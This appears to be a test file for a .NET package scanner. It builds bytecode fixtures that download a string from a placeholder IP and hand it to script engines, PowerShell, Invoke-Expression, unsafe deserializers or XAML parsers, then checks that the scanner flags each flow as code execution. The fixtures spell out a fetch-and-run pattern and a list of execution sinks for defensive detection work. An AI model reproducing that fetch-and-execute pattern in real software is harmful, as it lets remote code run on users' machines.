import { describe, expect, it } from 'vitest';
import { method, type InstructionSpec } from '../../kit/cil-assembler/assemble.js';
import { codeAssembly, factsOf, inspectedFiles } from '../rich-package.js';

const web = '[System.Net.WebClient]System.Net.WebClient';

/** Fetches a text, and hands it to a member. */
async function runsOf(member: InstructionSpec, before: readonly InstructionSpec[] = []) {
  const bytes = codeAssembly([
    ...before,
    ['newobj', method(web, '.ctor', 'void', [], { instance: true })],
    ['ldstr', 'http://198.51.100.7/a'],
    ['callvirt', method(web, 'DownloadString', 'string', ['string'], { instance: true })],
    member,
    ['pop'],
  ]);
  const inspection = await inspectedFiles({ 'lib/net10.0/Fixture.dll': bytes });
  return factsOf(inspection, 'flow').flatMap(({ run, sink }) =>
    run === undefined ? [] : sink.kind,
  );
}

const gives = (type: string, name: string): InstructionSpec => [
  'call',
  method(type, name, 'object', ['string']),
];

describe('what is fetched and handed to', () => {
  it.each([
    ['[Jint]Jint.Engine', 'Execute'],
    ['[ClearScript]Microsoft.ClearScript.ScriptEngine', 'Evaluate'],
    ['[Jurassic]Jurassic.ScriptEngine', 'Execute'],
    ['[JavaScriptEngineSwitcher.Core]JavaScriptEngineSwitcher.Core.IJsEngine', 'Evaluate'],
    ['[NiL.JS]NiL.JS.Core.Context', 'Eval'],
    ['[YantraJS.Core]YantraJS.Core.JSContext', 'Eval'],
    ['[Microsoft.Scripting]Microsoft.Scripting.Hosting.ScriptEngine', 'Execute'],
    [
      '[Microsoft.Scripting]Microsoft.Scripting.Hosting.ScriptEngine',
      'CreateScriptSourceFromString',
    ],
    ['[Python.Runtime]Python.Runtime.PythonEngine', 'Exec'],
    ['[MoonSharp.Interpreter]MoonSharp.Interpreter.Script', 'DoString'],
    ['[NLua]NLua.Lua', 'DoString'],
    [
      '[Microsoft.CodeAnalysis.CSharp.Scripting]Microsoft.CodeAnalysis.CSharp.Scripting.CSharpScript',
      'EvaluateAsync',
    ],
    [
      '[Microsoft.CodeAnalysis.VisualBasic.Scripting]Microsoft.CodeAnalysis.VisualBasic.Scripting.VisualBasicScript',
      'RunAsync',
    ],
    ['[System.Management.Automation]System.Management.Automation.ScriptBlock', 'Create'],
    [
      '[System.Management.Automation]System.Management.Automation.Runspaces.CommandCollection',
      'AddScript',
    ],
    [
      '[System.Management.Automation]System.Management.Automation.Runspaces.Runspace',
      'CreatePipeline',
    ],
    ['[System.Web]System.Web.UI.LosFormatter', 'Deserialize'],
    ['[System.Web]System.Web.UI.ObjectStateFormatter', 'Deserialize'],
    ['[PresentationFramework]System.Windows.Markup.XamlReader', 'Parse'],
    ['[System.Xaml]System.Xaml.XamlServices', 'Parse'],
  ])('%s::%s runs', async (type, name) => {
    expect(await runsOf(gives(type, name))).toEqual(['generated-code']);
  });

  it.each([
    ['[Jint]Jint.Engine', 'SetValue'],
    ['[Microsoft.Scripting]Microsoft.Scripting.Hosting.ScriptEngine', 'GetService'],
    ['[Newtonsoft.Json]Newtonsoft.Json.JsonConvert', 'DeserializeObject'],
    ['[System.Management.Automation]System.Management.Automation.PowerShell', 'AddArgument'],
    ['[System.Runtime]System.Uri', 'EscapeDataString'],
  ])('%s::%s does not', async (type, name) => {
    expect(await runsOf(gives(type, name))).toEqual([]);
  });

  it('PowerShell::AddArgument runs, where the command is Invoke-Expression', async () => {
    const type = '[System.Management.Automation]System.Management.Automation.PowerShell';
    const before: InstructionSpec[] = [
      ['ldstr', 'Invoke-Expression'],
      ['call', method(type, 'AddCommand', 'object', ['string'])],
      ['pop'],
    ];
    expect(await runsOf(gives(type, 'AddArgument'), before)).toEqual(['generated-code']);
  });
});
